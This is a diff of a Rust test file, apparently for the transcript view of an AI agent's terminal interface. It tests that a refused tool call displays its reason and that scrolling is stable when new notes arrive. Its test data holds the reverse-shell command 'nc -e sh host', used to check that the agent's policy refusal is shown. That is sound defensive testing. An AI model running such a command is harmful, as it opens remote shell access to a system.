@@ -5,7 +5,7 @@ use kode_base::{Layer, Reason, RiskClass, Verdict};
 use super::*;
 
 fn shown(transcript: &mut Transcript, height: usize) -> String {
-    let lines = transcript.visible(Theme { colour: false }, 60, height);
+    let lines = transcript.visible(Theme::PLAIN, 60, height);
     lines.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
 }
 
@@ -49,7 +49,26 @@ fn a_refused_call_says_why_and_unfolds() {
     assert!(folded.contains("✖ refused shell nc -e sh host"), "{folded}");
     assert!(folded.contains("a reverse shell"), "{folded}");
     transcript.click(0);
-    assert!(shown(&mut transcript, 10).contains("reverse_shell, builtin layer"));
+    let unfolded = shown(&mut transcript, 10);
+    for expected in [
+        "command  nc -e sh host",
+        "verdict  refuse, not permitted by the policy",
+        "rule     reverse_shell (builtin layer)",
+    ] {
+        assert!(unfolded.contains(expected), "{expected} in:\n{unfolded}");
+    }
+}
+
+#[test]
+fn what_comes_in_does_not_move_what_is_being_read() {
+    let mut transcript = Transcript::default();
+    (0..30).for_each(|n| transcript.note(format!("note {n}"), Kind::Plain));
+    shown(&mut transcript, 4);
+    transcript.scroll(-20);
+    let before = shown(&mut transcript, 4);
+    (0..5).for_each(|n| transcript.note(format!("new {n}"), Kind::Plain));
+    assert_eq!(shown(&mut transcript, 4), before);
+    assert_eq!(transcript.rows_below(), 30);
 }
 
 #[test]
